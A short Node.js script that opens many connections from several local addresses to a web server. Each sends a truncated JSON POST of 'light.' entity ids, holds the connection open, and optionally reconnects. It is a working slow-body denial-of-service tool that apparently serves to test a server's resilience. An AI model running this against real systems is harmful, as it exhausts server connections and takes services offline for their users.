// Sends bodies to a web server: on each connection the first `part` bytes of a list of entity ids, then nothing until
// the server ends it; with `again` it then starts again. Prints a line once all connections have sent that, and one
// for each that was answered or ended, with the status (0 for none).
import { connect } from 'node:net';

const { from, to, port, connections, path, ids, length, part, again, field = {} } = JSON.parse(process.argv[2]);
const id = (index) => `light.${String(index).padStart(length - 'light.'.length, '0')}`;
const body = JSON.stringify({ ...field, entity_ids: Array.from({ length: ids }, (_, index) => id(index)) });
const head = `POST ${path} HTTP/1.1\r\nHost: ${to}\r\nContent-Type: application/json\r\n`;
const bytes = Buffer.from(`${head}Content-Length: ${body.length}\r\n\r\n${body.slice(0, part ?? body.length)}`);
/** Delay before an ended connection is opened again, in milliseconds: slow enough not to flood connections. */
const pauseMs = 20;

let begun = 0;
function upload(localAddress) {
  const socket = connect({ host: to, port, localAddress });
  let text = '';
  let isOver = false;
  let isCounted = false;
  const count = () => {
    if (isCounted) return;
    isCounted = true;
    begun += 1;
    if (begun === connections * from.length) console.log('attacking');
  };
  const end = () => {
    if (isOver) return;
    isOver = true;
    count();
    socket.destroy();
    console.log(`ended ${Number(/^HTTP\/1\.1 (\d{3}) /.exec(text)?.[1] ?? 0)}`);
    if (again) setTimeout(() => upload(localAddress), pauseMs);
  };
  socket.on('error', end);
  socket.on('close', end);
  socket.on('data', (chunk) => {
    text += chunk.toString('latin1');
    if (part === undefined && text.includes('\r\n\r\n')) end();
  });
  socket.on('connect', () => socket.write(bytes, count));
}
for (const address of from) for (let index = 0; index < connections; index += 1) upload(address);
